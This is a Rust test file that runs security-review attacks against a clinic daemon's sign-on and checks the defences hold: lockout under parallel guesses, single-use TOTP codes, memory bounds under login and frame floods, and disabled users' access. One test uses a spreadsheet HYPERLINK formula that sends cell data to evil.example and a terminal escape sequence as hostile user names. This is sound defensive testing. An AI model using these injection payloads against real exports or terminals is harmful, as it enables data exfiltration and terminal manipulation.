//! The attacks of the outside security review on sign-on, performed through the real
//! daemon: parallel guesses must not defeat the lockout, one TOTP code must give one
//! session however many connections send it at once, a flood of sign-ins for made-up
//! names must stay within bounded memory and leave the door open for real staff, and a
//! disabled user's password must open nothing, not even a backup made later.

use crate::common;
use caredesk::clinic::api::PasswordReset;

use std::path::Path;
use std::sync::{Arc, Barrier};
use std::time::{Duration, Instant};

use crate::common::daemon::{Daemon, credentials, sign_in, unused_code};
use crate::common::tmux::demo_store;
use crate::common::{run_caredesk, text};
use caredesk::clinic::client::Client;
use caredesk::clinic::{Request, Response, Secret, ServiceError};
use caredesk::server::remote::Remote;

const ADMIN: (&str, &str) = ("admin", "demo chief harbour lantern");
const SECURITY: (&str, &str) = ("zhao.an", "demo security harbour lantern");
const DESK: (&str, &str) = ("wang.li", "demo desk harbour lantern");
const DOCTOR: (&str, &str) = ("dr.zhou", "demo doctor harbour lantern");
const NURSE: (&str, &str) = ("chen.jing", "demo nurse harbour lantern");

fn login(socket: &Path, user: &str, password: &str, code: &str) -> Response {
    let remote = Remote::connect(socket).unwrap();
    remote.call(
        None,
        Request::Login {
            user: user.into(),
            password: Secret::new(password),
            code: Secret::new(code),
        },
    )
}

/// Sends `count` Logins at once (each on its own connection, released together).
fn at_once(
    socket: &Path,
    count: usize,
    each: impl Fn(usize) -> (String, String, String) + Send + Sync + 'static,
) -> Vec<Response> {
    let barrier = Arc::new(Barrier::new(count));
    let each = Arc::new(each);
    let threads: Vec<_> = (0..count)
        .map(|i| {
            let (barrier, each, socket) = (barrier.clone(), each.clone(), socket.to_path_buf());
            std::thread::spawn(move || {
                let remote = Remote::connect(&socket).unwrap();
                let (user, password, code) = each(i);
                barrier.wait();
                remote.call(
                    None,
                    Request::Login {
                        user,
                        password: Secret::new(password),
                        code: Secret::new(code),
                    },
                )
            })
        })
        .collect();
    threads.into_iter().map(|t| t.join().unwrap()).collect()
}

fn count(replies: &[Response], wanted: impl Fn(&Response) -> bool) -> usize {
    replies.iter().filter(|r| wanted(r)).count()
}

#[test]
fn forty_parallel_wrong_guesses_lock_the_account_after_five() {
    let (_tmp, dir) = demo_store();
    let daemon = Daemon::start(&dir);
    let replies = at_once(&daemon.socket, 40, |i| {
        (
            DESK.0.to_string(),
            format!("wrong guess {i}"),
            "123456".to_string(),
        )
    });
    let failed = count(&replies, |r| {
        matches!(r, Response::Error(ServiceError::SignInFailed))
    });
    let locked = count(&replies, |r| {
        matches!(r, Response::Error(ServiceError::AccountLocked { .. }))
    });
    assert_eq!(failed, 5, "exactly the configured 5 guesses were checked");
    assert_eq!(locked, 35, "{replies:?}");
    // The right password is refused until the lock ends.
    let right = login(&daemon.socket, DESK.0, DESK.1, &unused_code(DESK.0));
    assert!(
        matches!(right, Response::Error(ServiceError::AccountLocked { .. })),
        "{right:?}"
    );
}

#[test]
fn twenty_parallel_logins_with_one_code_give_exactly_one_session() {
    let (_tmp, dir) = demo_store();
    let daemon = Daemon::start(&dir);
    let code = unused_code(DOCTOR.0);
    let replies = at_once(&daemon.socket, 20, move |_| {
        (DOCTOR.0.into(), DOCTOR.1.into(), code.clone())
    });
    let sessions = count(&replies, |r| matches!(r, Response::SignedIn(_)));
    assert_eq!(sessions, 1, "{replies:?}");
    assert!(
        replies
            .iter()
            .all(|r| matches!(r, Response::SignedIn(_) | Response::Error(_))),
        "{replies:?}"
    );
}

/// The peak resident memory of a process, in MB.
fn peak_rss_mb(pid: u32) -> u64 {
    common::daemon::peak_rss_kib(pid) / 1024
}

#[test]
fn two_hundred_sign_ins_for_made_up_names_stay_in_bounded_memory() {
    let (_tmp, dir) = demo_store();
    let daemon = Daemon::start(&dir);
    let replies = at_once(&daemon.socket, 200, |i| {
        (
            format!("ghost.{i}"),
            "no such password".into(),
            "000000".into(),
        )
    });
    // Every one is refused, as a failed sign-in or as "busy": none crashed the server.
    assert!(
        replies.iter().all(|r| matches!(
            r,
            Response::Error(ServiceError::SignInFailed | ServiceError::Busy)
        )),
        "{replies:?}"
    );
    let peak = peak_rss_mb(daemon.pid());
    assert!(peak < 600, "the daemon's peak RSS was {peak} MB");
    // Real staff still get in at once: within 2 s, retrying while busy.
    let deadline = Instant::now() + Duration::from_secs(2);
    let code = unused_code(DESK.0);
    loop {
        match login(&daemon.socket, DESK.0, DESK.1, &code) {
            Response::SignedIn(_) => break,
            Response::Error(ServiceError::Busy) if Instant::now() < deadline => {
                std::thread::sleep(Duration::from_millis(100))
            }
            other => panic!("a real user could not sign in after the flood: {other:?}"),
        }
    }
}

#[test]
fn a_disabled_users_password_opens_nothing_not_even_a_later_backup() {
    let (tmp, dir) = demo_store();
    let daemon = Daemon::start(&dir);
    let remote = Remote::connect(&daemon.socket).unwrap();
    let admin = sign_in(&remote, ADMIN);
    let disabled = remote.call(
        Some(&admin),
        Request::UserDisable {
            name: NURSE.0.into(),
        },
    );
    assert_eq!(disabled, Response::Done);
    let security = sign_in(&remote, SECURITY);
    let Response::KeySlots(slots) = remote.call(Some(&security), Request::KeySlots) else {
        panic!()
    };
    assert!(
        slots.iter().all(|s| s.name != NURSE.0),
        "the disabled nurse still has a key slot: {slots:?}"
    );
    // Her password: the one message every failure gets.
    let reply = login(&daemon.socket, NURSE.0, NURSE.1, "000000");
    assert!(
        matches!(reply, Response::Error(ServiceError::SignInFailed)),
        "{reply:?}"
    );
    // A backup made after she was disabled does not open with her password.
    let file = tmp.path().join("after.backup");
    let made = run_caredesk(
        None,
        &[
            "backup",
            "--data",
            dir.to_str().unwrap(),
            "--out",
            file.to_str().unwrap(),
        ],
        &credentials(ADMIN),
    );
    assert!(made.status.success(), "{}", text(&made.stderr));
    let target = tmp.path().join("restored");
    let restored = run_caredesk(
        None,
        &[
            "restore",
            file.to_str().unwrap(),
            "--data",
            target.to_str().unwrap(),
            "--user",
            NURSE.0,
        ],
        &format!("{}\n", NURSE.1),
    );
    assert!(
        !restored.status.success(),
        "the disabled nurse's password restored the backup"
    );
    assert!(
        !target.join("db").exists(),
        "a refused restore left a store"
    );
    // Enabled again, she starts over with a one-time password, as a new user.
    match remote.call(
        Some(&admin),
        Request::UserEnable {
            name: NURSE.0.into(),
        },
    ) {
        Response::PasswordReset(PasswordReset {
            one_time_password, ..
        }) => {
            let old = login(&daemon.socket, NURSE.0, NURSE.1, "000000");
            assert!(
                matches!(old, Response::Error(ServiceError::SignInFailed)),
                "{old:?}"
            );
            let new = login(
                &daemon.socket,
                NURSE.0,
                one_time_password.expose(),
                "000000",
            );
            assert!(
                matches!(new, Response::Error(ServiceError::PasswordChangeRequired)),
                "{new:?}"
            );
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn a_name_no_account_can_have_is_refused_and_never_reaches_the_audit_log() {
    let (_tmp, dir) = demo_store();
    let daemon = Daemon::start(&dir);
    let formula = "=HYPERLINK(\"http://evil.example/?\"&B2,\"Click me\")";
    let reply = login(&daemon.socket, formula, "whatever", "123456");
    assert!(
        matches!(reply, Response::Error(ServiceError::SignInFailed)),
        "{reply:?}"
    );
    let escape = login(&daemon.socket, "a\u{1b}]0;owned\u{7}", "x", "123456");
    assert!(matches!(
        escape,
        Response::Error(ServiceError::SignInFailed)
    ));
    drop(daemon);
    let exported = run_caredesk(
        None,
        &[
            "audit",
            "export",
            "--format",
            "csv",
            "--open",
            "--data",
            dir.to_str().unwrap(),
        ],
        &credentials(("he.audit", "demo auditor harbour lantern")),
    );
    assert!(exported.status.success(), "{}", text(&exported.stderr));
    let csv = text(&exported.stdout);
    assert!(!csv.contains("HYPERLINK"), "{csv}");
    assert!(!csv.contains('\u{1b}'));
    assert!(csv.contains("a user name no account can have"));
}

#[test]
fn a_slot_an_older_version_left_to_a_disabled_user_opens_nothing_and_goes_at_unlock() {
    use caredesk::audit::{AuditEvent, Outcome};
    use caredesk::auth::Role;
    use caredesk::clinic::Clinic;
    use caredesk::store::writes::WriteSet;
    use common::clinic::{TestClinic, quick_options, totp_code};

    let TestClinic {
        tmp: _tmp,
        dir,
        clock,
        clinic,
        staff,
        ..
    } = TestClinic::with_all_roles();
    drop(clinic);
    // As versions before this one did: the user is disabled, the password slot stays.
    let nurse = &staff[&Role::Nurse];
    let vault = common::unlock(&dir, quick_options(&clock));
    let mut user = vault.user_by_name(&nurse.name).unwrap().unwrap();
    user.disabled = true;
    let mut writes = WriteSet::new();
    vault.stage_user_update(&mut writes, &user).unwrap();
    vault
        .commit(
            AuditEvent::new(common::actor(), "user.disable", Outcome::Ok),
            writes,
        )
        .unwrap();
    drop(vault);

    let clinic = std::sync::Arc::new(Clinic::open(&dir, quick_options(&clock)).unwrap());
    let origin = caredesk::clinic::Origin::default();
    // A new TOTP step: the codes of the set-up sign-ins are spent.
    clock.advance_secs(60);
    let now = (clock.clock())().timestamp();
    let login = |who: &common::clinic::Staff| {
        clinic.handle(
            None,
            Request::Login {
                user: who.name.clone(),
                password: Secret::new(who.password.clone()),
                code: Secret::new(totp_code(&who.secret, now, 6)),
            },
            &origin,
        )
    };
    let refused = login(nurse);
    assert!(
        matches!(refused, Response::Error(ServiceError::SignInFailed)),
        "{refused:?}"
    );
    let admin = match login(&staff[&Role::SecurityAdmin]) {
        Response::SignedIn(admin) => admin,
        other => panic!("the security administrator could not sign in: {other:?}"),
    };
    let Response::KeySlots(slots) = clinic.handle(Some(&admin.token), Request::KeySlots, &origin)
    else {
        panic!()
    };
    assert!(
        slots.iter().all(|s| s.name != nurse.name),
        "the disabled nurse's slot is still there: {slots:?}"
    );
}

#[test]
fn strangers_announcing_large_frames_cannot_make_the_daemon_hold_memory() {
    use std::io::{Read, Write};
    let (_tmp, dir) = demo_store();
    let daemon = Daemon::start(&dir);
    let before = peak_rss_mb(daemon.pid());
    // 250 connections that never sign in, each announcing a frame just under 8 MiB and
    // sending 1 MiB of it, then holding the connection open.
    let junk = vec![0x5a_u8; 1024 * 1024];
    let mut held = Vec::new();
    for _ in 0..250 {
        let mut stream = std::os::unix::net::UnixStream::connect(&daemon.socket).unwrap();
        stream
            .set_read_timeout(Some(Duration::from_secs(5)))
            .unwrap();
        let _ = stream.write_all(&((8 * 1024 * 1024 - 1) as u32).to_be_bytes());
        let _ = stream.write_all(&junk);
        held.push(stream);
    }
    // The daemon closed each of them (a stranger's frame is at most 64 KiB).
    for stream in &mut held {
        let mut buf = [0u8; 16];
        let closed = match stream.read(&mut buf) {
            Ok(0) => true,
            Err(e) => !matches!(
                e.kind(),
                std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
            ),
            Ok(_) => false,
        };
        assert!(
            closed,
            "a connection announcing 8 MiB before signing in was kept open"
        );
    }
    let peak = peak_rss_mb(daemon.pid());
    assert!(
        peak < before + 200,
        "the daemon grew from {before} MB to {peak} MB"
    );
    // Real staff are served: a sign-in, then a request larger than a stranger may send.
    let remote = Remote::connect(&daemon.socket).unwrap();
    let token = sign_in(&remote, DOCTOR);
    let large = remote.call(
        Some(&token),
        Request::PatientSearch {
            query: "x".repeat(100 * 1024),
            limit: 1,
        },
    );
    assert!(
        !matches!(
            large,
            Response::Error(ServiceError::Unavailable(ref m)) if m.to_string().contains("not answering")
        ),
        "{large:?}"
    );
}

#[test]
fn the_daemon_has_file_descriptors_for_every_connection_it_accepts() {
    let (_tmp, dir) = demo_store();
    let daemon = Daemon::start(&dir);
    let limits = std::fs::read_to_string(format!("/proc/{}/limits", daemon.pid())).unwrap();
    let line = limits
        .lines()
        .find(|l| l.starts_with("Max open files"))
        .unwrap();
    let numbers: Vec<u64> = line
        .split_whitespace()
        .filter_map(|w| w.parse().ok())
        .collect();
    let (soft, hard) = (numbers[0], numbers.get(1).copied().unwrap_or(u64::MAX));
    // 1024 connections and the store's own files fit: the soft limit was raised
    // (as far as the hard limit allows).
    assert!(soft >= hard.min(4096), "{line}");
    let (code, said) = daemon.stop();
    assert_eq!(code, Some(0), "{said}");
}
